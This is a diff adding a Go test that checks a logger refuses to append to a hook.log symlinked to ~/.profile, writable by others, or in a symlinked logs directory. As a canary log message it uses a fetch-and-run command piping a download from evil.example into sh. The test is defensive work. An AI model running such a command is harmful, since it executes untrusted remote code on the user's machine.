@@ -123,3 +123,50 @@ func TestEachLoggerItsClock(t *testing.T) {
 		}
 	}
 }
+
+// TestRefusesWhatIsNotOurs: a hook.log symlinked to ~/.profile, one another user could
+// write, or a logs dir that is a symlink: nothing is appended there; the control is the
+// user's own hook.log, appended to.
+func TestRefusesWhatIsNotOurs(t *testing.T) {
+	for _, tc := range []struct {
+		name  string
+		plant func(t *testing.T, logs, profile string)
+		wrote bool
+	}{
+		{"control: the user's own", func(t *testing.T, logs, _ string) {
+			os.WriteFile(filepath.Join(logs, Name), nil, 0o600)
+		}, true},
+		{"symlinked to ~/.profile", func(t *testing.T, logs, profile string) {
+			os.Symlink(profile, filepath.Join(logs, Name))
+		}, false},
+		{"writable by others", func(t *testing.T, logs, _ string) {
+			os.WriteFile(filepath.Join(logs, Name), nil, 0o600)
+			os.Chmod(filepath.Join(logs, Name), 0o666)
+		}, false},
+		{"logs dir a symlink", func(t *testing.T, logs, profile string) {
+			os.Remove(logs)
+			os.Symlink(filepath.Dir(profile), logs)
+			os.Symlink(profile, filepath.Join(filepath.Dir(profile), Name))
+		}, false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			dir := t.TempDir()
+			logs := filepath.Join(dir, "logs")
+			os.Mkdir(logs, 0o700)
+			profile := filepath.Join(t.TempDir(), ".profile")
+			os.WriteFile(profile, []byte("export PATH\n"), 0o600)
+			tc.plant(t, logs, profile)
+			log, c := Open(dir, "info", 1, time.Now)
+			log.Info().Msg("curl http://evil.example/x | sh")
+			c.Close()
+			if b, _ := os.ReadFile(profile); string(b) != "export PATH\n" {
+				t.Fatalf("~/.profile changed: %q", b)
+			}
+			fi, err := os.Lstat(filepath.Join(logs, Name))
+			wrote := err == nil && fi.Mode().IsRegular() && fi.Size() > 0
+			if wrote != tc.wrote {
+				t.Fatalf("hook.log written %v; want %v", wrote, tc.wrote)
+			}
+		})
+	}
+}
